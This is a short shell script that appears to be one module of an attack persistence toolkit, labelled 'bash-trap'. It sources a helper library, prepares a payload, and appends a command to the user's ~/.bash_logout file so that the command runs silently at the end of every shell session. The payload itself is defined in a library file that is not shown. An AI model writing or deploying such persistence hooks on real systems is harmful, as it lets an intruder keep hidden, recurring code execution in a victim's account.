#!/bin/sh
# bash-trap: a command at the end of every shell (bash(1), trap)
. "${0%/*}/lib.sh"
payload
append "$home/.bash_logout" "$head" "$cmd"
